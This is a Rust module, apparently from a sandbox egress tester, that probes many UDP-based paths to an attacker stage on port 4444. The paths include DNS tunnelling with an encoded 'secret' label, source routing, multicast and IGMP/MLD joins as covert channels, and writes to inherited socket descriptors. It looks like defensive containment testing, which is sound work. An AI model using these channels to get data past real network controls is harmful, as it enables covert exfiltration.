//! UDP in every spelling, and what else a datagram socket can put on the wire.

use std::net::Ipv4Addr;

use crate::stream::loose_route;
use crate::sys::{Fd, check, in4, in6, receive, send, setsockopt, socket};
use crate::{Attempt, BANNER, Stage, Verdict};

const ANSWER_MS: i32 = 250;
const PORT: u16 = 4444;
const IPPROTO_UDPLITE: i32 = 136;
const SOL_UDP: i32 = 17;
const UDP_SEGMENT: i32 = 103;
/// Reports are sent after a random delay of up to a second.
const REPORT_DELAY: std::time::Duration = std::time::Duration::from_millis(1300);

pub(crate) fn connect(stage: &Stage) -> Attempt {
    let fd = udp(libc::AF_INET)?;
    crate::sys::connect(&fd, &in4(stage.v4()?, PORT))?;
    send(fd.0, b"hello")?;
    sent(&fd)
}

pub(crate) fn sendto(stage: &Stage) -> Attempt {
    to4(stage, PORT, b"hello")
}

pub(crate) fn sendmmsg(stage: &Stage) -> Attempt {
    let fd = udp(libc::AF_INET)?;
    let mut address = in4(stage.v4()?, PORT);
    let mut data = *b"hello";
    let mut iov = libc::iovec { iov_base: data.as_mut_ptr().cast(), iov_len: data.len() };
    // SAFETY: all-zero is a valid message header.
    let mut messages: [libc::mmsghdr; 2] = unsafe { std::mem::zeroed() };
    for message in &mut messages {
        message.msg_hdr.msg_name = (&raw mut address).cast();
        message.msg_hdr.msg_namelen = size_of_val(&address) as u32;
        message.msg_hdr.msg_iov = &raw mut iov;
        message.msg_hdr.msg_iovlen = 1;
    }
    // SAFETY: two headers, whose name and vector outlive the call.
    check("sendmmsg", unsafe { libc::sendmmsg(fd.0, messages.as_mut_ptr(), 2, 0) })?;
    sent(&fd)
}

/// One call, several packets.
pub(crate) fn gso(stage: &Stage) -> Attempt {
    let fd = udp(libc::AF_INET)?;
    setsockopt(&fd, SOL_UDP, UDP_SEGMENT, &100i32)?;
    crate::sys::sendto(&fd, &[b'x'; 500], 0, &in4(stage.v4()?, PORT))?;
    sent(&fd)
}

pub(crate) fn udp6(stage: &Stage) -> Attempt {
    let fd = udp(libc::AF_INET6)?;
    crate::sys::sendto(&fd, b"hello", 0, &in6(stage.v6()?, PORT))?;
    sent(&fd)
}

pub(crate) fn mapped(stage: &Stage) -> Attempt {
    let fd = udp(libc::AF_INET6)?;
    crate::sys::sendto(&fd, b"hello", 0, &in6(stage.v4()?.to_ipv6_mapped(), PORT))?;
    sent(&fd)
}

/// The family says nothing, the address is IPv4 all the same.
pub(crate) fn unspec(stage: &Stage) -> Attempt {
    let fd = udp(libc::AF_INET)?;
    let mut address = in4(stage.v4()?, PORT);
    address.sin_family = libc::AF_UNSPEC as u16;
    crate::sys::sendto(&fd, b"hello", 0, &address)?;
    sent(&fd)
}

pub(crate) fn lsrr(stage: &Stage) -> Attempt {
    let fd = udp(libc::AF_INET)?;
    setsockopt(&fd, libc::IPPROTO_IP, libc::IP_OPTIONS, &loose_route(stage.v4()?))?;
    crate::sys::sendto(&fd, b"hello", 0, &in4(Ipv4Addr::new(198, 51, 100, 7), PORT))?;
    sent(&fd)
}

pub(crate) fn udplite(stage: &Stage) -> Attempt {
    let fd = socket(libc::AF_INET, libc::SOCK_DGRAM, IPPROTO_UDPLITE)?;
    crate::sys::sendto(&fd, b"hello", 0, &in4(stage.v4()?, PORT))?;
    sent(&fd)
}

/// A long-header packet of the size that QUIC asks of a client's first.
pub(crate) fn quic(stage: &Stage) -> Attempt {
    let mut initial = vec![0u8; 1200];
    initial[..7].copy_from_slice(&[0xc3, 0, 0, 0, 1, 8, 7]);
    to4(stage, 443, &initial)
}

/// Data in a label, for a zone whose server is the attacker's.
pub(crate) fn dns_tunnel(stage: &Stage) -> Attempt {
    let mut heard = String::new();
    for kind in [16u8, 1] {
        let fd = udp(libc::AF_INET)?;
        let mut query = vec![0x13, kind, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
        for label in [format!("c2VjcmV0-{}-{kind}", std::process::id()).as_str(), "tunnel", "test"] {
            query.push(label.len() as u8);
            query.extend(label.bytes());
        }
        query.extend([0, 0, kind, 0, 1]);
        crate::sys::sendto(&fd, &query, 0, &in4(stage.v4()?, 53))?;
        let reply = receive(fd.0, ANSWER_MS);
        // Success with at least one answer: a refusal by name is no way out.
        if reply.len() > 12 && reply[3] & 15 == 0 && reply[7] > 0 {
            return Ok(Verdict::Out(format!(
                "an answer of {} bytes to a question of type {kind}",
                reply.len()
            )));
        }
        heard.push_str(&format!(" type {kind}: {:?};", reply.get(2..8)));
    }
    Ok(Verdict::Refused(format!("no answer through names:{heard}")))
}

pub(crate) fn multicast(_: &Stage) -> Attempt {
    let fd = udp(libc::AF_INET)?;
    crate::sys::sendto(&fd, b"hello", 0, &in4(Ipv4Addr::new(239, 1, 2, 3), 5000))?;
    sent(&fd)
}

pub(crate) fn broadcast(_: &Stage) -> Attempt {
    let fd = udp(libc::AF_INET)?;
    setsockopt(&fd, libc::SOL_SOCKET, libc::SO_BROADCAST, &1i32)?;
    crate::sys::sendto(&fd, b"hello", 0, &in4(Ipv4Addr::BROADCAST, 5000))?;
    sent(&fd)
}

/// The group's address carries the bits.
pub(crate) fn igmp_join(_: &Stage) -> Attempt {
    let fd = udp(libc::AF_INET)?;
    let group = libc::ip_mreqn {
        imr_multiaddr: libc::in_addr { s_addr: u32::from(Ipv4Addr::new(239, 7, 7, 7)).to_be() },
        imr_address: libc::in_addr { s_addr: 0 },
        imr_ifindex: 0,
    };
    setsockopt(&fd, libc::IPPROTO_IP, libc::IP_ADD_MEMBERSHIP, &group)?;
    std::thread::sleep(REPORT_DELAY);
    Ok(Verdict::Out("joined 239.7.7.7".to_owned()))
}

pub(crate) fn mld_join(_: &Stage) -> Attempt {
    let fd = udp(libc::AF_INET6)?;
    let group = libc::ipv6_mreq {
        ipv6mr_multiaddr: libc::in6_addr {
            s6_addr: [0xff, 0x15, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x77, 0x77, 0x77, 0x77],
        },
        ipv6mr_interface: 0,
    };
    setsockopt(&fd, libc::IPPROTO_IPV6, libc::IPV6_ADD_MEMBERSHIP, &group)?;
    std::thread::sleep(REPORT_DELAY);
    Ok(Verdict::Out("joined ff15::7777:7777".to_owned()))
}

pub(crate) fn so_mark(stage: &Stage) -> Attempt {
    let fd = udp(libc::AF_INET)?;
    setsockopt(&fd, libc::SOL_SOCKET, libc::SO_MARK, &0x1234i32)?;
    crate::sys::sendto(&fd, b"marked", 0, &in4(stage.v4()?, PORT))?;
    sent(&fd)
}

/// The caller left a connected socket open as descriptor 7.
pub(crate) fn inherited_fd(_: &Stage) -> Attempt {
    send(7, b"inherited")?;
    Ok(Verdict::Out("sent on descriptor 7".to_owned()))
}

/// The caller's standard input is a connected socket.
pub(crate) fn inherited_stdin(_: &Stage) -> Attempt {
    send(0, b"inherited")?;
    Ok(Verdict::Out("sent on descriptor 0".to_owned()))
}

fn udp(family: i32) -> Result<Fd, Verdict> {
    socket(family, libc::SOCK_DGRAM, 0)
}

fn to4(stage: &Stage, port: u16, data: &[u8]) -> Attempt {
    let fd = udp(libc::AF_INET)?;
    crate::sys::sendto(&fd, data, 0, &in4(stage.v4()?, port))?;
    sent(&fd)
}

/// The kernel took it. Whether it left is for the counter to say.
fn sent(fd: &Fd) -> Attempt {
    let reply = receive(fd.0, ANSWER_MS);
    if String::from_utf8_lossy(&reply).contains(BANNER) {
        Ok(Verdict::Out("heard the attacker".to_owned()))
    } else {
        Ok(Verdict::Silent(format!("the kernel took it, heard {} bytes", reply.len())))
    }
}
